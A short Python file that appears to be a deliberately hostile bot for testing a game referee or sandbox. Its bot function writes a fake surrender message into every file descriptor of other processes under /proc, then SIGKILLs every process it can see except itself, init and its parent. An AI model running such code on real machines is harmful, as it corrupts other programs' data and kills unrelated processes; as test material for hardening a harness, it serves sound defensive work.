"""Hostile: frames its opponent -- writes a surrender into every pipe it can find, then kills
every other process it can see."""
import os
import signal

from _common import first_legal


def bot(victory_cell, cell, you):
    me = os.getpid()
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    with open(f"/proc/{pid}/fd/{fd}", "w") as pipe:
                        pipe.write('{"move": "NULL"}\n')
                except OSError:
                    pass
        except OSError:
            pass
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (me, 1, os.getppid())]:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    return first_legal(cell, you)
